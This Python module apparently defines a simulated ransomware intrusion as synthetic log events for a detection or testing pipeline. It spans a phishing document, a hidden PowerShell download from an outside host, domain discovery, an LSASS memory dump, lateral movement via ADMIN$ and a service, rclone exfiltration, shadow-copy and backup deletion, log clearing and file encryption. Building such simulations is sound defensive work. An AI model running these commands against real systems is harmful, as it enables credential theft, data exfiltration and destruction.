"""Ransomware intrusion: phishing, discovery, credentials, lateral movement, theft, encryption."""

from typing import Any, Final

from pipeline.simulate.stories.step import Step, Story

_SYSTEM32: Final = "C:\\Windows\\System32\\"
_POWERSHELL: Final = _SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_TOOL: Final = "C:\\Users\\Public\\Libraries\\<tag>.exe"
_NOTE: Final = "恢复文件说明.txt"


def _run(image: str, command_line: str, parent: str = _TOOL, **fields: Any) -> dict[str, Any]:
    return {"Image": image, "CommandLine": command_line, "ParentImage": parent, **fields}


def _on_server(fields: dict[str, Any]) -> dict[str, Any]:
    return {**fields, "Hostname": "<fs>.<domain>", "User": "CORP\\<user>"}


def _tool(name: str, arguments: str) -> dict[str, Any]:
    return _run(_SYSTEM32 + name, f"{name} {arguments}")


def _tool_on_server(name: str, arguments: str) -> dict[str, Any]:
    return _on_server(_tool(name, arguments))


_WPS: Final = "C:\\Program Files (x86)\\Kingsoft\\WPS Office\\office6\\wps.exe"

_ENTRY = (
    Step(0, "process", _run(
        _WPS, '"wps.exe" "C:\\Users\\<user>\\Downloads\\对账单.docm"',
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    )),
    Step(25, "process", _run(
        _POWERSHELL,
        "powershell.exe -nop -w hidden -c \"iwr https://<outside>/<tag> -o <tag>.exe\"", _WPS,
    )),
    Step(27, "lookup", {"Image": _POWERSHELL, "QueryName": "cdn-<tag>.example"}),
    Step(28, "connection", {
        "Image": _POWERSHELL, "DestinationIp": "<outside>", "DestinationPort": "443",
    }),
    Step(33, "file", {"Image": _POWERSHELL, "TargetFilename": _TOOL}),
    Step(36, "process", _run(_TOOL, _TOOL, _POWERSHELL)),
)  # fmt: skip

_DISCOVERY = tuple(
    Step(300 + 20 * number, "process", _tool(name, arguments))
    for number, (name, arguments) in enumerate((
        ("whoami.exe", "/all"),
        ("net.exe", 'group "domain admins" /domain'),
        ("nltest.exe", "/dclist:corp"),
        ("net.exe", "view /all"),
        ("systeminfo.exe", ""),
        ("quser.exe", "/server:<fs>"),
    ))
)  # fmt: skip

_CREDENTIALS = (
    Step(700, "access", {
        "SourceImage": _TOOL, "TargetImage": _SYSTEM32 + "lsass.exe", "GrantedAccess": "0x1fffff",
        "CallTrace": _SYSTEM32 + "ntdll.dll+9c534|UNKNOWN(000001D2A7B60000)",
    }),
    Step(702, "file", {
        "Image": _TOOL, "TargetFilename": "C:\\Users\\Public\\Libraries\\lsass_<tag>.dmp",
    }),
)  # fmt: skip

_MOVEMENT = (
    Step(900, "logon", {"Hostname": "<peer>.<domain>", "IpAddress": "<ip>"}, 12, 8),
    Step(1_000, "share", {
        "Hostname": "<fs>.<domain>", "ShareName": "\\\\*\\ADMIN$",
        "RelativeTargetName": "<tag>.exe", "AccessMask": "0x2",
    }),
    Step(1_004, "service", {
        "Hostname": "<fs>.<domain>", "ServiceName": "<tag>",
        "ImagePath": "C:\\Windows\\<tag>.exe",
    }),
    Step(1_010, "process", _on_server(_run(
        "C:\\Windows\\<tag>.exe", "C:\\Windows\\<tag>.exe", _SYSTEM32 + "services.exe",
    ))),
)  # fmt: skip

_THEFT = (
    Step(1_200, "process", _tool_on_server(
        "rclone.exe", "copy D:\\研发图纸 remote:<tag> --transfers 16 --config C:\\Windows\\r.conf",
    )),
    Step(1_204, "connection", _on_server({
        "Image": _SYSTEM32 + "rclone.exe", "SourceIp": "<fs_ip>", "DestinationIp": "<outside_2>",
        "DestinationPort": "443",
    })),
    Step(1_230, "conn", {
        "id.orig_h": "<fs_ip>", "id.resp_h": "<outside_2>", "id.resp_p": 443,
        "orig_bytes": "<2500000000:4000000000>", "resp_bytes": "<1000000:3000000>",
        "duration": 611.4, "service": "ssl",
    }),
)  # fmt: skip

_IMPAIRMENT = tuple(
    Step(2_000 + 6 * number, "process", _tool_on_server(name, arguments))
    for number, (name, arguments) in enumerate((
        ("net.exe", "stop U8TaskService /y"),
        ("net.exe", "stop MSSQLSERVER /y"),
        ("net.exe", "stop VeeamBackupSvc /y"),
        ("taskkill.exe", "/f /im HipsDaemon.exe"),
        ("sc.exe", "config QQPCRTP start= disabled"),
        ("vssadmin.exe", "delete shadows /all /quiet"),
        ("wbadmin.exe", "delete catalog -quiet"),
        ("bcdedit.exe", "/set {default} recoveryenabled no"),
        ("wevtutil.exe", "cl System"),
    ))
)  # fmt: skip

_ENCRYPTION = (
    Step(2_100, "file", _on_server({
        "Image": "C:\\Windows\\<tag>.exe",
        "TargetFilename": "D:\\研发图纸\\A<index>\\总装图-<index>.dwg.locked",
    }), 60, 0.4),
    Step(2_104, "smb_files", {
        "id.orig_h": "<fs_ip>", "id.resp_h": "<bk_ip>", "action": "SMB::FILE_RENAME",
        "path": "\\\\<bk>\\backup", "name": "库存-<index>.xlsx.locked",
        "prev_name": "库存-<index>.xlsx",
    }, 40, 0.5),
    Step(2_110, "file", _on_server({
        "Image": "C:\\Windows\\<tag>.exe", "TargetFilename": f"D:\\部门<index>\\{_NOTE}",
    }), 8, 2),
)  # fmt: skip

RANSOMWARE: Final = Story(
    "ransomware",
    ("office",),
    _ENTRY + _DISCOVERY + _CREDENTIALS + _MOVEMENT + _THEFT + _IMPAIRMENT + _ENCRYPTION,
)
